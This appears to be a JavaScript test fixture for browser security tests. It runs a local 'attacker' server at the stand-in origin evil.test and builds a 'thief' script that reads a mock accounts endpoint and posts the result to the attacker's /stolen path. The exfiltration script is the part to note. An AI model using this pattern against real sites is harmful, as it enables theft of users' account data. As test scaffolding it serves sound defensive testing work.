// The attacker's web server: pages to open in the browser, and a place to send what they steal.

import { createServer } from "node:http";

/** Starts the server. `stolen` collects what pages send to it. */
export async function startAttacker() {
  const stolen = [];
  const pages = new Map();
  const server = createServer((request, response) => {
    let body = "";
    request.on("data", (piece) => { body += piece; });
    request.on("end", () => {
      response.setHeader("Access-Control-Allow-Origin", "*");
      if (request.url === "/stolen") stolen.push(body);
      response.setHeader("Content-Type", "text/html; charset=utf-8");
      response.end(pages.get(request.url) ?? "<title>attacker</title>");
    });
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const origin = `http://evil.test:${server.address().port}`;
  return { origin, pages, stolen, stop: () => server.close() };
}

/** A script that reads the accounts of the origin on which it runs, and sends them to the attacker.
 * It blocks: when the page has loaded, it has run or it never will. */
export function thief(attacker) {
  return `
    const read = new XMLHttpRequest();
    read.open("GET", "/_mock/accounts", false);
    try { read.send(); } catch (error) { }
    const send = new XMLHttpRequest();
    send.open("POST", "${attacker.origin}/stolen", false);
    send.send("ran: " + read.responseText);`;
}
